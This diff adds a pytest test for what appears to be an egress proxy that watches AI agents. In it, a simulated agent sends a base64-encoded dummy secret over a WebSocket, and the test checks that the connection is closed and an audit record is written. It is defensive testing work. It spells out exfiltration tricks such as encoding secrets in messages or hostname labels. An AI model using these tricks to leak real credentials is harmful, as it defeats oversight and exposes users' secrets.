@@ -12,6 +12,7 @@ from __future__ import annotations
 import base64
 import json
 import re
+import ssl
 import sys
 import time
 from collections.abc import Iterator
@@ -23,6 +24,8 @@ import trustme
 from helpers.proxy import audit_records, wait_audit
 from helpers.server import OWNER_EMAIL, OWNER_PASSWORD, ServerProc
 from helpers.upstream import TLSUpstream
+from websockets.exceptions import ConnectionClosed
+from websockets.sync.client import connect as ws_connect
 
 SECRET = 'sk-Exf1l+secret/"42"-value'
 LABEL_SECRET = "sk-label-secret-0042"
@@ -186,6 +189,20 @@ def test_a_value_in_a_host_label_is_refused_before_dns_and_scrubbed(
     assert r.json()["key"] == "LABEL_KEY" and LABEL_SECRET not in r.text
     rec = wait_audit(srv.home, error="exfiltration_blocked", blocked_key="LABEL_KEY")
     assert rec["host"] == "[REDACTED:LABEL_KEY].other.upstream.test" and LABEL_SECRET not in json.dumps(rec)
+
+
+def test_a_value_in_a_websocket_message_closes_the_connection(srv: ServerProc, up: TLSUpstream) -> None:
+    token = srv.make_agent("exfil-ws-bot")
+    ctx = ssl.create_default_context(cafile=str(srv.ca_bundle))
+    with ws_connect(f"wss://other.upstream.test:{up.port}/ws", proxy=srv.proxy_url(token), ssl=ctx) as ws:
+        json.loads(ws.recv(timeout=10))
+        ws.send("hello")
+        assert ws.recv(timeout=10) == "hello"  # ordinary messages pass
+        ws.send("leak " + base64.b64encode(SECRET.encode()).decode())
+        with pytest.raises(ConnectionClosed):
+            ws.recv(timeout=10)
+    rec = wait_audit(srv.home, method="WEBSOCKET", error="exfiltration_blocked")
+    assert rec["blocked_key"] == "API_TOKEN" and rec["host"] == "other.upstream.test"
 
 
 def test_no_audit_record_holds_the_value(srv: ServerProc) -> None:
